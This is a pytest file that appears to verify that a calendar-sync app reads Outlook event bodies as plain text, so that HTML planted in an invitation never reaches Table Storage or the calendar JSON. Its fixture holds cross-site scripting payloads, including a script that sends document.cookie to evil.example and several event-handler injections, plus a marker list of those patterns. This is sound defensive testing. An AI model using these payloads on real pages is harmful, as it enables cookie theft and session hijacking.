"""Nothing active comes in from Outlook (issue 10): bodies are read as text.

Anyone who can send a meeting invitation controls its body. The app reads bodies with
``Prefer: outlook.body-content-type="text"`` (GRAPH.md 1), also inside ``$batch``, so
script and event-handler markup planted in an Outlook body never reaches Table Storage
or the calendar JSON, which carry plain text (docs/messages.md).
"""

from __future__ import annotations

import json
from datetime import datetime, timedelta, timezone

import pytest

pytestmark = pytest.mark.slow

ALICE = "alice@contoso.com"
PLANTED = (
    "<p>Agenda: budget</p><script>document.location='https://evil.example/?c='+document.cookie</script>"
    "<img src=x onerror=\"alert('img')\"><a href=\"javascript:alert('a')\" onclick=\"steal()\">minutes</a>"
    "<style>body{display:none}</style><iframe src=\"https://evil.example/\"></iframe>"
    "<div onmouseover=\"alert('div')\">Room 4</div>"
)
ACTIVE = ("<script", "script>", "onerror", "onclick", "onmouseover", "javascript:", "<img", "<iframe", "<a ",
          "evil.example", "document.cookie", "<style", "<p>", "<div")


def at(days, hour):
    d = datetime.now(timezone.utc).replace(hour=hour, minute=0, second=0, microsecond=0) + timedelta(days=days)
    return {"dateTime": d.strftime("%Y-%m-%dT%H:%M:%S.0000000"), "timeZone": "UTC"}


def stored_bodies(stack, user_id):
    """Each stored Communifire event's title and body, as the writer keeps them in Table Storage."""
    from core.adapters.events import EventStore

    state, _ = EventStore(stack.app.storage).load_user_state(user_id)
    return {e.segments[0].title: e.segments[0].body for e in state.events.values()}


def all_rows_text(stack) -> str:
    tables = ("Events", "OutlookIndex", "Users", "Audit")
    rows = []
    for name in tables:
        try:
            rows += [json.dumps(dict(e), default=str) for e in stack.app.storage.table(name).list_entities()]
        except Exception:  # noqa: BLE001 - a table this version does not have
            continue
    return "\n".join(rows)


def test_script_and_event_handler_markup_never_reaches_table_storage_or_the_calendar_json(stack):
    stack.add_user(ALICE)
    stack.connect("1001", ALICE)
    stack.control.create_event(ALICE, {"subject": "Budget", "start": at(2, 9), "end": at(2, 10),
                                       "body": {"contentType": "html", "content": PLANTED}})
    stack.control.create_event(ALICE, {  # a series: its master is read through $batch
        "subject": "Weekly budget", "start": at(1, 14), "end": at(1, 15),
        "body": {"contentType": "html", "content": PLANTED},
        "recurrence": {"pattern": {"type": "weekly", "interval": 1,
                                   "daysOfWeek": [(datetime.now(timezone.utc) + timedelta(days=1)).strftime("%A").lower()]},
                       "range": {"type": "numbered", "numberOfOccurrences": 3,
                                 "startDate": at(1, 14)["dateTime"][:10]}}})
    stack.control.clear_requests_log()
    stack.sync_all()
    reads = [r for r in stack.control.requests_log() if r["method"] == "GET" and "/events" in r["path"] + r["query"]
             or r["method"] == "GET" and "calendarView" in r["path"]]
    assert any(r["batch"] for r in reads) and any(not r["batch"] for r in reads)
    assert all('outlook.body-content-type="text"' in r["prefer"] for r in reads)  # batch items too
    doc = stack.calendar("1001")
    assert sorted(e["title"] for e in doc["events"]) == ["Budget", "Weekly budget"]
    bodies = stored_bodies(stack, "1001")
    for body in bodies.values():  # the visible text survives, as plain text
        assert "Agenda: budget" in body and "minutes" in body and "Room 4" in body
    calendar_text = json.dumps(doc)
    stored = all_rows_text(stack)
    assert "Agenda: budget" in stored
    for marker in ACTIVE:
        assert marker not in calendar_text, marker
        assert marker not in stored, marker


def test_a_plain_text_body_keeps_its_lines(stack):
    stack.add_user(ALICE)
    stack.connect("1001", ALICE)
    stack.control.create_event(ALICE, {"subject": "Offsite", "start": at(3, 9), "end": at(3, 17),
                                       "body": {"contentType": "text", "content": "Bus at 8:00\nBring <boots> & water"}})
    stack.sync_all()
    assert stored_bodies(stack, "1001") == {"Offsite": "Bus at 8:00\nBring <boots> & water"}  # as typed: not escaped, not joined
